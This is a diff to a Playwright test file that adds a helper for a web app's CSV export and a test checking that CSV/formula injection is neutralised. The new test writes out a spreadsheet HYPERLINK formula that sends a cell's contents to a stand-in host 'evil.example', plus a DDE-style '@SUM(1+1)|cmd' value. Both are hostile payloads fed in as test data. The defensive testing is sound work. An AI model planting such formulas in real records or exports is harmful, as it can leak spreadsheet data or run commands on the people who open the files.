@@ -7,7 +7,7 @@
  */
 import { readFile } from 'node:fs/promises';
 import { expect, test, type Page } from '@playwright/test';
-import { openAs, serverList, settled, table } from './list-helpers';
+import { openAs, openAsAdmin, serverList, settled, table } from './list-helpers';
 
 interface VehicleRow {
   vehicle_id: number;
@@ -70,6 +70,14 @@ function parseCsv(text: string): string[][] {
   return records;
 }
 
+/** Clicks Export CSV and reads the file: its name and its records (after the UTF-8 byte order mark). */
+async function exportCsv(page: Page): Promise<{ fileName: string; records: string[][] }> {
+  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
+  const bytes = await readFile(await download.path());
+  expect([...bytes.subarray(0, 3)], 'UTF-8 byte order mark').toEqual([0xef, 0xbb, 0xbf]);
+  return { fileName: download.suggestedFilename(), records: parseCsv(bytes.subarray(3).toString('utf8')) };
+}
+
 test('exports every page of the filtered, sorted vehicles list as CSV, as the API returns them', async ({ page }) => {
   const token = await openAs(page, 'inspector', '/vehicles?active=Y&sort=autoyear&dir=asc');
   const list = table(page, 'Vehicles');
@@ -77,15 +85,10 @@ test('exports every page of the filtered, sorted vehicles list as CSV, as the AP
   const expected = await allActiveByYear(page, token);
   expect(expected.length).toBeGreaterThan(500);
 
-  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
-  expect(download.suggestedFilename()).toMatch(/^vehicles-\d{4}-\d{2}-\d{2}\.csv$/);
-  await expect(
-    page.getByRole('status').filter({ hasText: `Exported ${expected.length.toLocaleString('en-US')} vehicles to ${download.suggestedFilename()}.` }),
-  ).toBeVisible();
+  const { fileName, records } = await exportCsv(page);
+  expect(fileName).toMatch(/^vehicles-\d{4}-\d{2}-\d{2}\.csv$/);
+  await expect(page.getByRole('status').filter({ hasText: `Exported ${expected.length.toLocaleString('en-US')} vehicles to ${fileName}.` })).toBeVisible();
 
-  const bytes = await readFile(await download.path());
-  expect([...bytes.subarray(0, 3)], 'UTF-8 byte order mark').toEqual([0xef, 0xbb, 0xbf]);
-  const records = parseCsv(bytes.subarray(3).toString('utf8'));
   expect(records[0]).toEqual(['ID', 'VIN', 'Active', 'Year', 'Make', 'Model', 'Seller#', 'Seller', 'Inspection', 'Location History']);
   const rows = records.slice(1);
   expect(rows).toHaveLength(expected.length);
@@ -147,4 +150,49 @@ test('shows the export’s progress with the count, and Cancel stops it without 
   await expect(page.getByRole('button', { name: 'Export CSV' })).toBeEnabled();
   release();
   expect(downloads).toBe(0);
+});
+
+test('a formula typed by anyone exports as text: a name given at sign-up and a rep’s name typed by the clerk', async ({ page, browser }) => {
+  // Anyone may register: the name is whatever they typed, formula and all.
+  const username = `csv-${test.info().testId}-${test.info().repeatEachIndex}-${test.info().retry}@example.com`;
+  const hyperlink = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
+  const registered = await page.request.post('/v3/register', {
+    data: { first_name: hyperlink, last_name: 'Doe', username, password: 'a-long-pass-phrase-2026' },
+  });
+  expect(registered.status()).toBe(201);
+  const registeredName = ((await registered.json()) as { response: { name: string } }).response.name;
+  expect(registeredName.startsWith('=HYPERLINK(')).toBe(true);
+
+  await openAsAdmin(page, `/users?q=${encodeURIComponent(username)}`);
+  const users = table(page, 'Cloud Users');
+  await settled(users);
+  await expect(users.getByRole('link', { name: registeredName })).toBeVisible();
+  const { records: userRecords } = await exportCsv(page);
+  expect(userRecords[0]?.slice(0, 3)).toEqual(['Name', 'Email Address', 'Username']);
+  expect(userRecords.slice(1).map((record) => record.slice(0, 3))).toEqual([[`'${registeredName}`, username, username]]);
+
+  // The clerk stores a formula in a rep's first name (a rep no other test edits: the second oldest of DAL).
+  const clerk = await browser.newPage();
+  try {
+    const token = await openAs(clerk, 'clerk', '/dealers');
+    const rep = (await serverList<{ id: number; dealer_id: number }>(clerk, token, 'dealer_reps', 'site=DAL&order_by[]=id|asc&per_page=1&page=2')).data[0]!;
+    const formula = '@SUM(1+1)|cmd';
+    const saved = await clerk.request.put(`/v3/util/dealer_reps/${rep.id}?site=DAL`, {
+      headers: { Authorization: `Bearer ${token}` },
+      data: { name_first: formula },
+    });
+    expect(saved.status()).toBe(200);
+    await clerk.goto(`/dealers/${rep.dealer_id}?tab=reps`);
+    const reps = clerk.getByRole('table', { name: /^Reps of / });
+    await settled(reps);
+    await expect(reps.getByRole('cell', { name: formula })).toBeVisible();
+    const { records } = await exportCsv(clerk);
+    const firstName = records[0]!.indexOf('First Name');
+    const row = records.find((record) => record[records[0]!.indexOf('ID')] === String(rep.id));
+    expect(row?.[firstName]).toBe(`'${formula}`);
+    // No field of either file starts as a formula would.
+    for (const record of [...records, ...userRecords].slice(1)) for (const field of record) expect(field).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
+  } finally {
+    await clerk.close();
+  }
 });
